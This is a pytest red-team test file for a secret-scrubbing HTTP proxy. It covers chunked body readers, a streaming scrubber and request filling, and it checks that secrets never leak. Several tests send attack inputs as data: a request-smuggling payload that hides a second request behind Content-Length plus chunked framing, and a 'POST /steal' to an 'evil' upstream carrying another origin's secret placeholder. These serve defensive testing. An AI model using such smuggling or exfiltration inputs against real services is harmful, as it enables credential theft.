"""Red team, session 18: commit adc8dc1. HTTP/1 body readers that merge the h11.Data events a receive buffer
already holds into one piece (internals.http1_body_readers, trailers still dropped, an end or a protocol error
met while gathering handed on at the next call), a TLS layer's output read 1 MiB at a time and sent as one write
(internals.whole_tls_writes), and the streamed-response scrubber that looks for the last breaker byte in a
chunk's last 256 bytes first and scans carry + chunk up to it once (scrub._Rewriter.feed).

Values are made per test; asserts test booleans (or compare lengths and hashes), so no value reaches the output.
Tests whose docstring starts with FINDING failed before their fix (the response stream's `broken` callback,
and the bound on a chunk-size line or trailer section in internals.http1_body_readers); the rest are probes
that held."""

from __future__ import annotations

import base64
import gzip
import hashlib
import itertools
import json
import random
import re
import socket
import time
import zlib

import pytest

from sealgate import internals
from sealgate.scrub import Scrubber
from upstream import RawUpstream, header, raw_response
from wire import clean_log, log_mark, read_all, tunnel  # noqa: F401 - log_mark: an autouse fixture


# --- helpers ------------------------------------------------------------------------------------------------------


def _chunk(data: bytes, ext: bytes = b"") -> bytes:
    return b"%x%s\r\n%s\r\n" % (len(data), ext, data)


def _chunked(pieces, ext=lambda i: b"", trailers: bytes = b"") -> bytes:
    return b"".join(_chunk(p, ext(i)) for i, p in enumerate(pieces) if p) + b"0\r\n" + trailers + b"\r\n"


def _cuts(data: bytes, rng: random.Random, most: int = 9) -> list[bytes]:
    out, pos = [], 0
    while pos < len(data):
        n = rng.randint(1, most)
        out.append(data[pos:pos + n])
        pos += n
    return out


def _dechunk(body: bytes) -> tuple[bytes, bool]:
    """A chunked body as the worker got it: (data, whether the final chunk came)."""
    out, pos = bytearray(), 0
    while True:
        eol = body.find(b"\r\n", pos)
        if eol < 0:
            return bytes(out), False
        size = int(body[pos:eol].split(b";")[0] or b"0", 16)
        if size == 0:
            return bytes(out), True
        start = eol + 2
        if len(body) < start + size:
            out += body[start:]
            return bytes(out), False
        out += body[start:start + size]
        pos = start + size + 2


def _split_response(raw: bytes) -> tuple[bytes, bytes]:
    head, _, body = raw.partition(b"\r\n\r\n")
    return head, body


def _worker_body(raw: bytes) -> tuple[bytes, bytes, bool]:
    """(head, body, complete) of one HTTP/1 response the worker received (chunked or read to close)."""
    head, body = _split_response(raw)
    if b"chunked" in header(b"X\r\n" + head, b"transfer-encoding").lower():
        data, done = _dechunk(body)
        return head, data, done
    length = header(b"X\r\n" + head, b"content-length")
    if length:
        return head, body[:int(length)], len(body) >= int(length)
    return head, body, True


def _expected(value: str, ph: str, data: bytes) -> bytes:
    s = Scrubber()
    s.add_value(value, ph)
    return s.scrub(data)


def _read_all_fast(sock, timeout: float = 5) -> bytes:
    """wire.read_all into a bytearray (its bytes += is quadratic over tens of MiB)."""
    sock.settimeout(timeout)
    out = bytearray()
    try:
        while chunk := sock.recv(1 << 20):
            out += chunk
    except (TimeoutError, OSError):
        pass
    return bytes(out)


def _get(session, proxy_port: int, target: str, path: str = "/", extra: str = "", timeout: float = 5) -> bytes:
    t = tunnel(session, proxy_port, target, None)
    t.sendall(f"GET {path} HTTP/1.1\r\nHost: {target}\r\n{extra}Connection: close\r\n\r\n".encode())
    out = read_all(t, timeout)
    t.close()
    return out


def _serving(pki, make_body):
    """A RawUpstream whose answer is a head and body written by make_body(sock) (then the connection ends)."""
    def answer(head, body, sock):
        make_body(sock)
        return None
    return RawUpstream(pki, answer)


# --- 1. the readers, pure -----------------------------------------------------------------------------------------


def _events(reader, buf) -> list:
    """What mitmproxy's read_body takes from reader in one DataReceived."""
    import h11
    events = []
    while True:
        try:
            event = reader(buf)
        except h11.ProtocolError as e:
            events.append(e)
            return events
        if event is None:
            return events
        events.append(event)
        if isinstance(event, h11.EndOfMessage):
            return events


def _drive(make, arrivals: list[bytes]):
    """Feed each arrival into a buffer and read as mitmproxy does: (body, the ending, what is left)."""
    import h11
    from h11._receivebuffer import ReceiveBuffer
    reader, buf = make(), ReceiveBuffer()
    body, end = bytearray(), None
    for piece in arrivals:
        buf += piece
        for e in _events(reader, buf):
            if isinstance(e, h11.Data):
                body += e.data
            else:
                end = e
        if end is not None:
            break
    return bytes(body), end, bytes(buf)


def test_merged_readers_equal_h11_alone_for_random_chunked_bodies_arrivals_errors_and_pipelining():
    """For chunked bodies with extensions, trailers, a bad chunk (header, footer, trailer) after good ones,
    and bytes pipelined behind, cut into random arrivals: the wrapped reader gives the same body bytes, the
    same ending (end, or a protocol error) and leaves the same bytes in the buffer as h11's reader alone (whose
    trailers the wrapper drops)."""
    import h11
    from h11._readers import ChunkedReader, ContentLengthReader, Http10Reader
    from mitmproxy.proxy.layers.http import _http1

    internals.http1_body_readers(lambda: 65536)
    rng = random.Random(18)
    tails = [b"0\r\n\r\n", b"0;x=y\r\nX-T: 1\r\nX-U: 2\r\n\r\n", b"5\r\nabcdeXX", b"zz\r\n", b"0\r\nbad trailer\r\n\r\n",
             b"3\r\nabc\r\n0\r\n\r\nGET / HTTP/1.1\r\nHost: a\r\n\r\n", b"5 ;ext\r\nabcde\r\n0\r\n\r\n"]
    for trial in range(600):
        pieces = [rng.randbytes(rng.randint(1, 40)) for _ in range(rng.randint(0, 12))]
        ext = (lambda i: b";a=%d" % i) if trial % 3 == 0 else (lambda i: b"")
        data = b"".join(_chunk(p, ext(i)) for i, p in enumerate(pieces)) + rng.choice(tails) + b"PIPELINED"
        cuts = sorted(rng.sample(range(1, len(data)), min(len(data) - 1, rng.randint(0, 6))))
        arrivals = [data[a:b] for a, b in zip([0, *cuts], [*cuts, len(data)])]
        got = _drive(lambda: _http1.make_body_reader(None), arrivals)
        want = _drive(ChunkedReader, arrivals)
        same_end = (type(got[1]) is type(want[1])) or (isinstance(got[1], h11.ProtocolError)
                                                        and isinstance(want[1], h11.ProtocolError))
        assert got[0] == want[0] and same_end and got[2] == want[2], (trial, got[1], want[1])
        assert not (isinstance(got[1], h11.EndOfMessage) and got[1].headers)
    for trial in range(200):
        data = rng.randbytes(rng.randint(0, 300))
        cuts = sorted(rng.sample(range(1, max(len(data), 2)), min(max(len(data) - 1, 0), rng.randint(0, 5))))
        arrivals = [data[a:b] for a, b in zip([0, *cuts], [*cuts, len(data)])] + [b"EXTRA"]
        n = rng.randint(0, len(data))
        assert _drive(lambda: _http1.make_body_reader(n), arrivals) == _drive(lambda: ContentLengthReader(n), arrivals)
        assert _drive(lambda: _http1.make_body_reader(-1), arrivals) == _drive(Http10Reader, arrivals)


def test_a_protocol_error_met_while_gathering_is_raised_once_after_the_good_chunks_and_eof_is_h11s():
    import h11
    from h11._receivebuffer import ReceiveBuffer
    from mitmproxy.proxy.layers.http import _http1
    internals.http1_body_readers(lambda: 65536)
    reader, buf = _http1.make_body_reader(None), ReceiveBuffer()
    buf += b"2\r\nab\r\n2\r\ncd\r\n2\r\nefXX"
    first = reader(buf)
    assert isinstance(first, h11.Data) and bytes(first.data) == b"abcdef"
    with pytest.raises(h11.ProtocolError):
        reader(buf)
    reader, buf = _http1.make_body_reader(-1), ReceiveBuffer()
    buf += b"abc"
    assert bytes(reader(buf).data) == b"abc" and reader(buf) is None
    assert isinstance(reader.read_eof(), h11.EndOfMessage)
    reader, buf = _http1.make_body_reader(None), ReceiveBuffer()
    buf += b"3\r\nabc\r\n"
    assert bytes(reader(buf).data) == b"abc" and reader(buf) is None
    with pytest.raises(h11.ProtocolError):
        reader.read_eof()


# --- 2. the rewriter, pure ----------------------------------------------------------------------------------------


def _forms(value: str) -> list[bytes]:
    raw = value.encode()
    return [raw, json.dumps(value).encode()[1:-1], "".join(f"\\u{ord(c):04x}" for c in value).encode(),
            "".join(f"%{b:02X}" for b in raw).encode(), "".join(f"&#x{ord(c):07x};" for c in value).encode(),
            "".join(f"&#{ord(c)}" for c in value).encode(), raw.hex().encode(), raw.hex().upper().encode(),
            base64.b64encode(b"user:" + raw), base64.urlsafe_b64encode(b"xy" + raw).rstrip(b"=")]


def test_streamed_scrub_with_breakers_around_the_256_byte_tail_equals_the_whole():
    """Chunks longer and shorter than 256 bytes whose last breaker byte sits just inside, at and just outside
    the tail window (or nowhere), a value in many forms straddling the chunk boundaries and the window's edge:
    the streamed output equals scrubbing the whole, and no form's value-only part is left."""
    rng = random.Random(256)
    value = "sk-" + base64.urlsafe_b64encode(rng.randbytes(24)).decode()
    ph = "sg.aaaaaaaaaaaaaaaa.K.bbbbbbbbbbbbbbbbbbbbbb"
    s = Scrubber()
    s.add_value(value, ph)
    forms = _forms(value)
    for trial in range(150):
        parts = []
        for _ in range(rng.randint(1, 6)):
            filler_len = rng.choice([0, 1, 200, 254, 255, 256, 257, 258, 500, 700])
            filler = bytes(rng.choice(b"abcdefXYZ0123%&=") for _ in range(filler_len))
            if filler and rng.random() < .7:
                at = rng.randrange(len(filler))
                filler = filler[:at] + rng.choice([b"\n", b" ", b"\"", b"\x00", b".", b"\xff"]) + filler[at + 1:]
            parts += [filler, rng.choice(forms)]
        data = b"".join(parts)
        sizes = rng.choice([[255, 256, 257], [300, 511, 513], [1, 2, 3], [4096], [len(data)]])
        rw, out, pos = s.stream(), [], 0
        while pos < len(data):
            n = rng.choice(sizes)
            out.append(rw.feed(data[pos:pos + n]))
            pos += n
        got = b"".join(out) + rw.finish()
        ok = got == s.scrub(data) and value.encode() not in got
        assert ok, trial


# --- 3. responses through the proxy: what the worker received ------------------------------------------------------


_ALLOWED = itertools.count()


def allowed_at(proxy, user: str, value: str, up) -> tuple[dict, str]:
    """The value stored for up's origin under a name of its own, and a session of its own (its runchat in
    s["runchat"]): (session, placeholder)."""
    n = next(_ALLOWED)
    proxy.add_secret(user, f"K{n}", value, up.origin)
    s = proxy.issue(user=user, runchat=f"rc-{n}")
    s["runchat"] = f"rc-{n}"
    return s, s["env"][f"K{n}"]


@pytest.fixture
def keyed_upstream(proxy, pki, user, value):
    """make(body_writer) -> (upstream, session, placeholder) with the value allowed for that upstream."""
    def make(write):
        up = _serving(pki, write)
        return (up, *allowed_at(proxy, user, value, up))
    return make


def _scrubbed_whole(proxy, keyed_upstream, write, sent: bytes, v: bytes) -> bool:
    """Served by write: the worker got the whole body, each value in it replaced by the placeholder, and
    the value nowhere (a boolean: no value in an assert's message)."""
    up, s, ph = keyed_upstream(write)
    raw = _get(s, proxy.port, up.target)
    _, got, done = _worker_body(raw)
    return done and v not in raw and got == sent.replace(v, ph.encode())


SSE_HEAD = b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nTransfer-Encoding: chunked\r\n\r\n"


def test_sse_of_tiny_chunks_with_extensions_arriving_together_is_scrubbed_whole_and_in_order(
        proxy, keyed_upstream, value):
    """An event stream in chunks of 1-9 bytes with chunk extensions, the value (raw and JSON-escaped) cut at
    every place, and a trailer holding the value: all in one write. The worker gets exactly the scrubbed whole,
    in order, and no trailer."""
    rng = random.Random(1)
    events = b"".join(b"data: {\"n\": %d, \"k\": \"%s\"}\n\n" % (i, value.encode()) for i in range(60))
    state = {}

    def write(sock):
        pieces = _cuts(events, rng)
        sock.sendall(SSE_HEAD + _chunked(pieces, ext=lambda i: b";n=%d;q=\"x\"" % i,
                                          trailers=b"X-Trailer: " + value.encode() + b"\r\n"))
        time.sleep(0.3)

    up, s, ph = keyed_upstream(write)
    raw = _get(s, proxy.port, up.target)
    head, body, done = _worker_body(raw)
    assert done and head.startswith(b"HTTP/1.1 200")
    exact = body == _expected(value, ph, events)
    assert exact, "the worker's event stream differs from the scrubbed whole"
    clean = value.encode() not in raw and b"X-Trailer" not in raw
    assert clean
    assert clean_log(proxy)


def test_a_value_cut_at_the_merged_and_unmerged_boundary_is_scrubbed(proxy, keyed_upstream, value):
    """The first part of a value arrives merged with other chunks in one write, its rest in a later write (and
    a later chunk), for every cut point in the value: never whole at the worker."""
    event = b"data: " + value.encode() + b"\n\n"
    cuts = list(range(1, len(value.encode())))

    def write(sock):
        sock.sendall(SSE_HEAD)
        for k in cuts:
            at = 6 + k
            first = _chunk(b"data: x\n\n") * 3 + _chunk(event[:at - 3]) + _chunk(event[at - 3:at])
            sock.sendall(first)
            time.sleep(0.01)
            sock.sendall(_chunk(event[at:]))
        sock.sendall(b"0\r\n\r\n")

    up, s, ph = keyed_upstream(write)
    raw = _get(s, proxy.port, up.target, timeout=8)
    _, body, done = _worker_body(raw)
    assert done
    exact = body == (b"data: x\n\n" * 3 + b"data: " + ph.encode() + b"\n\n") * len(cuts)
    clean = value.encode() not in raw
    assert exact and clean


def test_encoded_forms_across_the_256_byte_tail_window_are_scrubbed(proxy, keyed_upstream, value):
    """Chunks of 300-700 bytes with no breaker in their last 256 bytes but one earlier, a value's forms (JSON
    escapes, %-encoding, HTML references, hex, base64) straddling the window's edge and the chunk ends, some
    writes holding two chunks: the worker gets exactly the scrubbed whole."""
    rng = random.Random(7)
    parts = []
    for form in _forms(value) * 3:
        parts += [b"x" * rng.choice([40, 250, 256, 257, 300]) + b"\n", b"A" * rng.randrange(0, 300), form]
    data = b"".join(parts) + b"\n"
    writes, pos = [], 0
    while pos < len(data):
        n = rng.choice([300, 400, 511, 700])
        writes.append(_chunk(data[pos:pos + n]))
        if rng.random() < .5 and writes[-1:]:
            n2 = rng.choice([1, 255, 256, 257])
            writes[-1] += _chunk(data[pos + n:pos + n + n2]) if data[pos + n:pos + n + n2] else b""
            n += n2
        pos += n

    def write(sock):
        sock.sendall(SSE_HEAD)
        for w in writes:
            sock.sendall(w)
            time.sleep(0.002)
        sock.sendall(b"0\r\n\r\n")

    up, s, ph = keyed_upstream(write)
    raw = _get(s, proxy.port, up.target, timeout=8)
    _, body, done = _worker_body(raw)
    assert done
    leaked = [i for i, f in enumerate(_forms(value)) if f in raw]
    assert not leaked, f"forms {leaked} reached the worker"
    exact = body == _expected(value, ph, data)
    assert exact, "the worker's body differs from the scrubbed whole"


def test_malformed_chunked_framing_after_good_chunks_leaks_no_value(proxy, keyed_upstream, value):
    """Good chunks, then a value cut between a good chunk and a malformed one (bad size line, bad footer,
    bad trailer), all in one write: the worker gets at most the scrubbed good part, never the value, and the
    proxy goes on."""
    v = value.encode()
    bads = [_chunk(b"ok\n") + _chunk(v[:10]) + b"zz\r\n" + v[10:] + b"\r\n",
            _chunk(b"ok\n") + _chunk(v[:10]) + b"%x\r\n" % (len(v) - 10) + v[10:] + b"XX",
            _chunk(b"ok\n") + _chunk(b"k=" + v) + b"0\r\nbad trailer " + v + b"\r\n\r\n",
            _chunk(b"ok\n") + _chunk(b"k=" + v[:-1]) + b"ffffffffffffffffffffff\r\n" + v[-1:]]
    for bad in bads:
        up, s, ph = keyed_upstream(lambda sock, bad=bad: (sock.sendall(SSE_HEAD + bad), time.sleep(0.3)))
        raw = _get(s, proxy.port, up.target)
        clean = v not in raw and v[:10] not in raw.replace(ph.encode(), b"")
        assert clean
    assert clean_log(proxy)


def test_http10_read_until_close_response_with_the_value_at_the_end_is_scrubbed(proxy, keyed_upstream, value):
    """A response without length or chunking (read until close), the value cut across writes and last of all."""
    v = value.encode()
    body = b"first " + v + b" middle" + b"y" * 5000 + v

    def write(sock):
        sock.sendall(b"HTTP/1.0 200 OK\r\nContent-Type: text/plain\r\n\r\n" + body[:-20])
        time.sleep(0.05)
        sock.sendall(body[-20:-5])
        time.sleep(0.05)
        sock.sendall(body[-5:])
        sock.shutdown(socket.SHUT_WR)

    assert _scrubbed_whole(proxy, keyed_upstream, write, body, v)


def test_content_length_and_chunked_together_leak_no_value(proxy, keyed_upstream, value):
    v = value.encode()
    payload = _chunked([b"a=", v[:7], v[7:], b"\n"])

    def write(sock):
        sock.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n" + payload
                     + b"HTTP/1.1 200 OK\r\nContent-Length: " + str(len(v)).encode() + b"\r\n\r\n" + v)
        time.sleep(0.3)

    up, s, ph = keyed_upstream(write)
    raw = _get(s, proxy.port, up.target)
    clean = v not in raw and v[7:] not in raw
    assert clean


def test_a_fast_16_mib_event_stream_arrives_whole_in_order_and_scrubbed(proxy, keyed_upstream, value):
    """16 MiB of 512-byte events with the value in every 64th, sent as fast as the socket takes it: the worker's
    body hashes to the scrubbed whole."""
    v = value.encode()
    plain = b"data: " + b"p" * 504 + b"\n\n"
    with_value = b"data: k=" + v + b" " + b"q" * (501 - len(v)) + b"\n\n"
    sized = len(plain) == len(with_value) == 512
    assert sized
    block = b"".join(_chunk(with_value if i % 64 == 0 else plain) for i in range(2048))  # 1 MiB of events
    block_out = b"".join((with_value.replace(v, b"\0") if i % 64 == 0 else plain) for i in range(2048))

    def write(sock):
        sock.sendall(SSE_HEAD)
        for _ in range(16):
            sock.sendall(block)
        sock.sendall(b"0\r\n\r\n")

    up, s, ph = keyed_upstream(write)
    expected = hashlib.sha256(block_out.replace(b"\0", ph.encode()) * 16).hexdigest()
    t = tunnel(s, proxy.port, up.target, None)
    t.sendall(f"GET / HTTP/1.1\r\nHost: {up.target}\r\nConnection: close\r\n\r\n".encode())
    raw = _read_all_fast(t, 10)
    t.close()
    _, body, done = _worker_body(raw)
    clean = v not in raw
    assert done and clean
    same_length = len(body) == 16 * (len(block_out) + 32 * (len(ph) - 1))
    assert same_length, "bytes lost or added"
    same = hashlib.sha256(body).hexdigest() == expected
    assert same, "bytes changed or reordered"


def test_a_gzip_event_stream_in_tiny_chunks_arriving_together_is_decoded_and_scrubbed(proxy, keyed_upstream, value):
    v = value.encode()
    events = b"".join(b"data: %d %s\n\n" % (i, v) for i in range(200))
    comp = gzip.compress(events)
    rng = random.Random(3)

    def write(sock):
        sock.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nContent-Encoding: gzip\r\n"
                     b"Transfer-Encoding: chunked\r\n\r\n" + _chunked(_cuts(comp, rng, 5)))
        time.sleep(0.3)

    assert _scrubbed_whole(proxy, keyed_upstream, write, events, v)


def test_a_gzip_stream_that_turns_to_garbage_after_good_chunks_leaks_nothing_and_the_proxy_goes_on(
        proxy, keyed_upstream, value):
    """Good gzip chunks holding the value, then bytes that are not gzip, in one write (merged into one piece): the
    worker gets at most the scrubbed start, the value never; the next request on the proxy is answered."""
    v = value.encode()
    comp = gzip.compress(b"".join(b"data: %d %s\n\n" % (i, v) for i in range(50)))
    for tail in (b"\x00garbage" * 10, zlib.compress(v), comp[:-8] + b"XXXXXXXX"):
        up, s, ph = keyed_upstream(lambda sock, tail=tail: (sock.sendall(
            b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nContent-Encoding: gzip\r\n"
            b"Transfer-Encoding: chunked\r\n\r\n" + _chunked([comp[:100], comp[100:], tail])), time.sleep(0.2)))
        raw = _get(s, proxy.port, up.target, timeout=1.5)
        clean = v not in raw
        assert clean
    up, s, ph = keyed_upstream(lambda sock: sock.sendall(raw_response(b"fine")))
    assert _get(s, proxy.port, up.target).endswith(b"fine")  # (its log has the crash of the finding below)


def _until_eof(sock, timeout: float) -> tuple[bytes, bool]:
    """What arrives, and whether the peer closed within timeout seconds (False: it went quiet instead)."""
    sock.settimeout(timeout)
    out, deadline = b"", time.time() + timeout
    try:
        while time.time() < deadline:
            chunk = sock.recv(65536)
            if not chunk:
                return out, True
            out += chunk
    except (TimeoutError, socket.timeout):
        return out, False
    except OSError:
        return out, True
    return out, False


def test_a_compressed_stream_broken_mid_body_ends_the_workers_response(proxy, keyed_upstream, value):
    """FINDING, fixed (pre-existing: the response StreamFilter has no on_error; the merged pieces of adc8dc1 carry it the
    same way): an upstream answers `Content-Encoding: gzip`, `Transfer-Encoding: chunked`, an event stream whose
    first chunks are good gzip and whose next chunk is not gzip (b"\\x00garbage" * 10), and then keeps its
    connection open. bodies.StreamDecoder raises BodyError inside the stream callable; it propagates out of
    mitmproxy's layers ("mitmproxy has crashed!" and a traceback in the proxy's log) and nothing closes the
    worker's connection: the worker holds a 200 whose body stops mid-stream, with no end and no error, for as long
    as it waits (40 s seen). No value leaks (the worker gets only scrubbed, decoded good bytes)."""
    v = value.encode()
    comp = gzip.compress(b"".join(b"data: %d %s\n\n" % (i, v) for i in range(50)))
    up, s, ph = keyed_upstream(lambda sock: (sock.sendall(
        b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nContent-Encoding: gzip\r\n"
        b"Transfer-Encoding: chunked\r\n\r\n" + _chunked([comp[:100], comp[100:]])[:-5] + _chunk(b"\x00garbage" * 10)),
        time.sleep(8)))
    t = tunnel(s, proxy.port, up.target, None)
    t.sendall(f"GET / HTTP/1.1\r\nHost: {up.target}\r\nConnection: close\r\n\r\n".encode())
    out, closed = _until_eof(t, 4)
    t.close()
    clean = v not in out
    assert clean
    assert closed, "the worker's connection stayed open after the stream broke (no end, no error)"


# --- 4. requests through the proxy: what the upstream received ----------------------------------------------------


@pytest.fixture
def recording(pki):
    return RawUpstream(pki, lambda head, body, sock: raw_response(b"ok " + hashlib.sha256(body).hexdigest().encode()))


def test_upload_of_tiny_chunks_with_extensions_arriving_together_is_filled_exactly(proxy, recording, user, value):
    """A chunked upload in chunks of 1-9 bytes with extensions, every placeholder cut, all in one write (and
    again in two writes cut inside a placeholder): the upstream gets the body with each filled, nothing else."""
    proxy.add_secret(user, "K", value, recording.origin)
    s = proxy.issue(user=user)
    ph = s["env"]["K"].encode()
    body = b"".join(b"k%d=%s&" % (i, ph) for i in range(50))
    rng = random.Random(5)
    for split in (None, len(b"k0=") + 20):
        t = tunnel(s, proxy.port, recording.target, None)
        wire = (f"POST /u HTTP/1.1\r\nHost: {recording.target}\r\nTransfer-Encoding: chunked\r\n"
                f"Content-Type: application/x-www-form-urlencoded\r\nConnection: close\r\n\r\n").encode() + \
            _chunked(_cuts(body, rng), ext=lambda i: b";e=%d" % i)
        if split is None:
            t.sendall(wire)
        else:
            at = wire.index(b"\r\n\r\n") + 4 + 60
            t.sendall(wire[:at])
            time.sleep(0.05)
            t.sendall(wire[at:])
        out = read_all(t, 5)
        t.close()
        ok = out.startswith(b"HTTP/1.1 200") and value.encode() not in out
        assert ok
        filled = recording.received[-1][1] == body.replace(ph, value.encode())
        assert filled, "the upstream did not get the body filled exactly"


def test_a_refused_placeholder_in_tiny_chunks_arriving_together_reaches_no_upstream(proxy, pki, make_upstream,
                                                                                     user, value):
    """A placeholder of another origin's secret, cut into 1-3 byte chunks sent with the rest of the body in one
    write (and with a refused one after an allowed one): the upstream never gets a complete request, nor a
    value, nor the placeholder."""
    api = make_upstream("127.0.0.1")
    evil = RawUpstream(pki, lambda head, body, sock: raw_response(b"got"), host="127.0.0.2")
    proxy.add_secret(user, "K", value, api.origin)
    proxy.add_secret(user, "E", value[::-1] + "E", evil.origin)
    s = proxy.issue(user=user)
    ph, mine = s["env"]["K"].encode(), s["env"]["E"].encode()
    rng = random.Random(9)
    for body in (b"a=1&key=" + ph + b"&b=2", b"own=" + mine + b"&key=" + ph + b"&x" * 300):
        t = tunnel(s, proxy.port, evil.target, None)
        t.sendall(f"POST /steal HTTP/1.1\r\nHost: {evil.target}\r\nTransfer-Encoding: chunked\r\nConnection: close"
                  f"\r\n\r\n".encode() + _chunked(_cuts(body, rng, 3)))
        out = read_all(t, 3)
        t.close()
        clean = value.encode() not in out
        assert clean
    time.sleep(0.3)
    nothing = evil.received == []
    assert nothing, "the upstream got a complete request"
    clean = value.encode() not in evil.seen() and ph not in evil.seen()
    assert clean
    assert clean_log(proxy)


def test_good_chunks_then_malformed_framing_in_one_write_never_complete_an_upstream_request(proxy, recording,
                                                                                             user, value):
    """Chunks with a placeholder, then a bad chunk line in the same write: the upstream never sees a complete
    request, and the worker nothing of the value."""
    proxy.add_secret(user, "K", value, recording.origin)
    s = proxy.issue(user=user)
    ph = s["env"]["K"].encode()
    before = len(recording.received)
    for bad in (b"zz\r\n\r\n", b"3\r\nabcXX0\r\n\r\n", b"0\r\nno colon\r\n\r\n"):
        t = tunnel(s, proxy.port, recording.target, None)
        t.sendall(f"POST /u HTTP/1.1\r\nHost: {recording.target}\r\nTransfer-Encoding: chunked\r\nConnection: close"
                  f"\r\n\r\n".encode() + _chunk(b"k=" + ph[:9]) + _chunk(ph[9:] + b"&" + b"z" * 2000) + bad)
        out = read_all(t, 3)
        t.close()
        clean = value.encode() not in out
        assert clean
    time.sleep(0.3)
    assert len(recording.received) == before, "a request whose framing broke went upstream complete"


def test_pipelined_chunked_requests_in_one_write_are_each_filled_answered_in_order(proxy, recording, user, value):
    proxy.add_secret(user, "K", value, recording.origin)
    s = proxy.issue(user=user)
    ph = s["env"]["K"].encode()
    rng = random.Random(11)
    bodies = [b"n=%d&k=%s&pad=%s" % (i, ph, b"p" * rng.randrange(0, 3000)) for i in range(4)]
    wire = b"".join((f"POST /p{i} HTTP/1.1\r\nHost: {recording.target}\r\nTransfer-Encoding: chunked\r\n"
                     + ("Connection: close\r\n" if i == 3 else "") + "\r\n").encode() + _chunked(_cuts(b, rng, 50))
                    for i, b in enumerate(bodies))
    before = len(recording.received)
    t = tunnel(s, proxy.port, recording.target, None)
    t.sendall(wire)
    out = read_all(t, 5)
    t.close()
    got = recording.received[before:]
    answers = re.findall(rb"ok ([0-9a-f]{64})", out)
    want = [hashlib.sha256(b.replace(ph, value.encode())).hexdigest().encode() for b in bodies]
    assert [h.split(b" ")[1] for h, _ in got] == [b"/p0", b"/p1", b"/p2", b"/p3"]
    in_order = answers == want
    assert in_order, "a pipelined body was lost, changed or answered out of order"
    clean = value.encode() not in out
    assert clean


def test_a_large_upload_with_placeholders_over_tls_arrives_byte_exact(proxy, pki, user, value):
    """6 MiB in 256 KiB chunks sent as fast as the socket takes them (1 MiB TLS writes upstream), placeholders
    at random places and across chunk ends: the upstream's body hashes to the filled whole."""
    up = RawUpstream(pki, lambda head, body, sock: raw_response(b"ok"), keep_bodies=False)
    proxy.add_secret(user, "K", value, up.origin)
    s = proxy.issue(user=user)
    ph = s["env"]["K"].encode()
    rng = random.Random(13)
    body = bytearray(rng.randbytes(6 << 20).replace(b"sg.", b"xx."))
    for at in sorted(rng.sample(range(len(body) - 200), 40)) + [(256 << 10) * k - 20 for k in range(1, 24)]:
        body[at:at + len(ph)] = ph
    body = bytes(body)
    expected = body.replace(ph, value.encode())
    t = tunnel(s, proxy.port, up.target, None)
    t.sendall(f"POST /big HTTP/1.1\r\nHost: {up.target}\r\nTransfer-Encoding: chunked\r\n"
              f"Content-Type: application/octet-stream\r\nConnection: close\r\n\r\n".encode())
    for pos in range(0, len(body), 256 << 10):
        t.sendall(_chunk(body[pos:pos + (256 << 10)]))
    t.sendall(b"0\r\n\r\n")
    out = read_all(t, 10)
    t.close()
    ok = out.startswith(b"HTTP/1.1 200")
    assert ok
    sized = up.body_sizes[-1] == len(expected)
    hashed = up.body_hashes[-1] == hashlib.sha256(expected).hexdigest()
    assert sized and hashed, "the upload arrived changed"


def test_chunk_extensions_and_trailers_carry_no_placeholder_upstream_and_no_value_back(proxy, pki, make_upstream,
                                                                                       user, value):
    """A placeholder of another origin's secret in a chunk extension and in a request trailer, and the value in a
    response chunk extension and trailer: the upstream gets neither placeholder nor value, the worker no value."""
    api = make_upstream("127.0.0.1")
    v = value.encode()
    evil = RawUpstream(pki, lambda head, body, sock: b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n"
                       + b"2;v=" + v + b"\r\nok\r\n0\r\nX-Back: " + v + b"\r\n\r\n", host="127.0.0.2")
    proxy.add_secret(user, "K", value, api.origin)
    proxy.add_secret(user, "E", value[::-1] + "E", evil.origin)
    s = proxy.issue(user=user)
    ph = s["env"]["K"].encode()
    t = tunnel(s, proxy.port, evil.target, None)
    t.sendall(f"POST /x HTTP/1.1\r\nHost: {evil.target}\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n"
              .encode() + b"3;k=" + ph + b"\r\nabc\r\n0\r\nX-Key: " + ph + b"\r\n\r\n")
    out = read_all(t, 3)
    t.close()
    time.sleep(0.2)
    clean_up = ph not in evil.seen() and v not in evil.seen()
    clean_back = v not in out
    assert clean_up and clean_back
    went = [b for _, b in evil.received] == [b"abc"]
    assert went, "the request's data did not go as sent"


def test_content_length_with_chunked_request_is_one_request_upstream_filled_or_refused(proxy, pki, recording, user,
                                                                                       value):
    """`Content-Length` and `Transfer-Encoding: chunked` together, a placeholder in the chunked body and a second
    request hidden where the Content-Length would end it: the upstream never sees two requests nor an unfilled
    placeholder; one of another origin goes nowhere."""
    evil = RawUpstream(pki, lambda head, body, sock: raw_response(b"got"), host="127.0.0.2")
    proxy.add_secret(user, "K", value, recording.origin)
    s = proxy.issue(user=user)
    ph = s["env"]["K"].encode()
    hidden = f"GET /hidden HTTP/1.1\r\nHost: x\r\nX-K: {ph.decode()}\r\n\r\n".encode()
    for up in (recording, evil):
        before = len(up.received)
        body = _chunk(b"k=" + ph) + b"0\r\n\r\n" + hidden
        t = tunnel(s, proxy.port, up.target, None)
        t.sendall(f"POST /cl HTTP/1.1\r\nHost: {up.target}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n"
                  f"\r\n".encode() + body)
        out = read_all(t, 3)
        t.close()
        time.sleep(0.2)
        got = up.received[before:]
        clean = value.encode() not in out and all(ph not in h + b for h, b in got)
        assert clean
        paths = [h.split(b" ")[1] for h, _ in got]
        if up is evil:
            clean_evil = value.encode() not in evil.seen()
            assert clean_evil and b"/cl" not in paths
        assert b"/hidden" not in paths, "a request smuggled behind the body went upstream"


# --- 5. what the readers buffer: a chunk-size line or a trailer section that never ends -------------------------------


@pytest.fixture
def own_proxy(tmp_path, pki):
    """A `sealgate run` process of this test's own: its memory is this test's alone."""
    from conftest import make_proxy
    p = make_proxy(tmp_path, pki, process=True)
    p.start()
    yield p
    p.stop()


def _rss_kib(pid: int) -> int:
    return int(next(line for line in open(f"/proc/{pid}/status") if line.startswith("VmRSS")).split()[1])


def _endless(proxy, session, target: str, opening: bytes, filler: bytes, total: int) -> tuple[int, int, bool]:
